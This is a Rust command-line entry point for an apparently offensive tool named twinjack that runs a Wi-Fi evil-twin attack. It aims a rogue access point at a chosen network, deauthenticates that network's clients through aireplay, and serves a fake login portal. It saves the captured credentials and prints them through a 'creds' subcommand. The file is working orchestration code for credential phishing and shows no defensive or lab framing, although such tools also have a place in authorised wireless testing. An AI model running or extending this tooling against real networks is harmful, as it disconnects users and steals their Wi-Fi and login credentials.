use std::process::ExitCode;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Context;
use clap::Parser;
use tokio::signal::unix::{signal, SignalKind};
use tracing::{error, info, warn};
use tracing_subscriber::EnvFilter;

use twinjack_core::alloc::RoleRequest;
use twinjack_core::session::{Collaborators, Orchestrator, SessionOptions};
use twinjack_core::snapshot::read_snapshot;
use twinjack_core::store::load_records;
use twinjack_core::types::{Phase, Role, TargetAp};
use twinjack_core::OrchestratorConfig;
use twinjack_portal::{PortalConfig, PortalLauncher};
use twinjack_system::{
    AireplaySender, IpLinkController, IptablesEngine, IwCapabilityProbe, LeaseClientResolver,
    NmcliConnector, StdProcessRunner, SystemConfigWriter,
};

mod args;

use args::{Cli, Commands, StartArgs};

// Exit codes: 0 clean completion, 1 configuration/allocation error before
// any attack action, 2 internal failure or incomplete cleanup.
const EXIT_OK: u8 = 0;
const EXIT_CONFIG: u8 = 1;
const EXIT_INTERNAL: u8 = 2;

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() -> ExitCode {
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")),
        )
        .init();

    let cli = Cli::parse();
    let mut config = OrchestratorConfig::from_env();
    if let Some(dir) = &cli.runtime_dir {
        config.runtime_dir = dir.clone();
    }

    let result = match cli.command {
        Commands::Start(args) => run_start(config, args).await,
        Commands::Status => run_status(&config),
        Commands::Stop => run_stop(&config).await,
        Commands::Creds => run_creds(&config),
    };

    match result {
        Ok(code) => ExitCode::from(code),
        Err(err) => {
            error!("{err:#}");
            eprintln!("error: {err:#}");
            ExitCode::from(EXIT_INTERNAL)
        }
    }
}

fn build_collaborators(config: &OrchestratorConfig, args: &StartArgs) -> anyhow::Result<Collaborators> {
    let run_dir = config.run_dir();
    let config_writer = Arc::new(SystemConfigWriter::new(&run_dir));
    let ap_iface_hint = args.ap_iface.as_deref().unwrap_or("wlan0");
    let lease_file = config_writer.lease_file(ap_iface_hint);

    let page_html = match &args.page {
        Some(path) => Some(
            std::fs::read_to_string(path)
                .with_context(|| format!("reading login page {}", path.display()))?,
        ),
        None => None,
    };

    Ok(Collaborators {
        runner: Arc::new(StdProcessRunner::new()),
        probe: Arc::new(IwCapabilityProbe::new()),
        config_writer,
        rule_engine: Arc::new(IptablesEngine::new()),
        link: Arc::new(IpLinkController::new()),
        deauth: Arc::new(AireplaySender::new()),
        connector: Arc::new(NmcliConnector::new()),
        resolver: Arc::new(LeaseClientResolver::new(lease_file)),
        capture: Arc::new(PortalLauncher::new(PortalConfig {
            page_html,
            ..PortalConfig::default()
        })),
    })
}

fn build_options(args: &StartArgs) -> SessionOptions {
    let mut roles = Vec::new();
    let request = |role: Role, pinned: &Option<String>| match pinned {
        Some(name) => RoleRequest::pinned(role, name.clone()),
        None => RoleRequest::auto(role),
    };
    roles.push(request(Role::Ap, &args.ap_iface));
    roles.push(request(Role::Deauth, &args.deauth_iface));
    if args.verify || args.verify_iface.is_some() {
        roles.push(request(Role::Verify, &args.verify_iface));
    }
    if args.auto_select || args.internet_iface.is_some() {
        roles.push(request(Role::Internet, &args.internet_iface));
    }

    SessionOptions {
        roles,
        verify: args.verify || args.verify_iface.is_some(),
        deauth_clients: args.deauth_clients.clone(),
        deauth_interval: args.deauth_interval.map(Duration::from_secs),
        portal_port: args.portal_port,
        ..SessionOptions::default()
    }
}

async fn run_start(config: OrchestratorConfig, args: StartArgs) -> anyhow::Result<u8> {
    let target = TargetAp {
        bssid: args.bssid.clone(),
        ssid: args.ssid.clone(),
        channel: args.channel,
        encryption: args.encryption.into(),
    };

    let deps = build_collaborators(&config, &args)?;
    let options = build_options(&args);
    let pidfile = config.pidfile_path();
    let orchestrator = Orchestrator::new(config, deps);

    let id = match orchestrator.start_session(target, options).await {
        Ok(id) => id,
        Err(err) if err.is_configuration() => {
            error!("{err}");
            eprintln!("error: {err}");
            return Ok(EXIT_CONFIG);
        }
        Err(err) => {
            error!("{err}");
            eprintln!("error: {err}");
            return Ok(EXIT_INTERNAL);
        }
    };
    write_pidfile(&pidfile);
    info!(session = %id, "attack running; press Ctrl-C to stop");

    // Run until the operator interrupts or the watchdog aborts.
    let mut sigterm = signal(SignalKind::terminate()).context("registering SIGTERM handler")?;
    let mut sigint = signal(SignalKind::interrupt()).context("registering SIGINT handler")?;
    tokio::select! {
        _ = sigint.recv() => info!("interrupt received; stopping session"),
        _ = sigterm.recv() => info!("termination requested; stopping session"),
        result = orchestrator.wait_terminal(&id) => {
            if let Ok(status) = &result {
                warn!(phase = %status.phase, "session ended on its own");
            }
        }
    }

    let status = orchestrator.stop_session(&id).await?;
    let _ = std::fs::remove_file(&pidfile);

    let records = orchestrator.captured_credentials(&id).await?;
    info!(
        phase = %status.phase,
        captured = records.len(),
        failed_cleanup = status.failed_cleanup,
        "session finished"
    );

    if status.phase == Phase::Done {
        Ok(EXIT_OK)
    } else {
        Ok(EXIT_INTERNAL)
    }
}

fn run_status(config: &OrchestratorConfig) -> anyhow::Result<u8> {
    let snapshot = read_snapshot(&config.snapshot_path())
        .context("no session snapshot found; has a session run?")?;
    println!("{}", serde_json::to_string_pretty(&snapshot)?);
    Ok(EXIT_OK)
}

async fn run_stop(config: &OrchestratorConfig) -> anyhow::Result<u8> {
    let pidfile = config.pidfile_path();
    let pid: i32 = std::fs::read_to_string(&pidfile)
        .context("no pidfile; is a session running?")?
        .trim()
        .parse()
        .context("malformed pidfile")?;

    info!(pid, "signalling running session");
    let rc = unsafe { libc::kill(pid, libc::SIGTERM) };
    if rc != 0 {
        anyhow::bail!("failed to signal pid {pid}: {}", std::io::Error::last_os_error());
    }

    // Wait for the process to finish its cleanup and exit.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let alive = unsafe { libc::kill(pid, 0) == 0 };
        if !alive {
            break;
        }
        if tokio::time::Instant::now() >= deadline {
            warn!(pid, "session still running after 30s");
            return Ok(EXIT_INTERNAL);
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    match read_snapshot(&config.snapshot_path()) {
        Ok(snapshot) if snapshot.phase == Phase::Done => Ok(EXIT_OK),
        Ok(snapshot) => {
            warn!(phase = %snapshot.phase, failures = snapshot.cleanup_failures.len(), "cleanup incomplete");
            Ok(EXIT_INTERNAL)
        }
        Err(_) => Ok(EXIT_OK),
    }
}

fn run_creds(config: &OrchestratorConfig) -> anyhow::Result<u8> {
    let path = config.captures_dir().join(twinjack_core::store::CREDENTIALS_FILE);
    let records = load_records(&path)?;
    if records.is_empty() {
        println!("no captured credentials");
        return Ok(EXIT_OK);
    }
    for record in records {
        println!("{}", serde_json::to_string(&record)?);
    }
    Ok(EXIT_OK)
}

fn write_pidfile(path: &std::path::Path) {
    if let Some(parent) = path.parent() {
        let _ = std::fs::create_dir_all(parent);
    }
    if let Err(err) = std::fs::write(path, format!("{}\n", std::process::id())) {
        warn!(path = %path.display(), error = %err, "failed to write pidfile");
    }
}
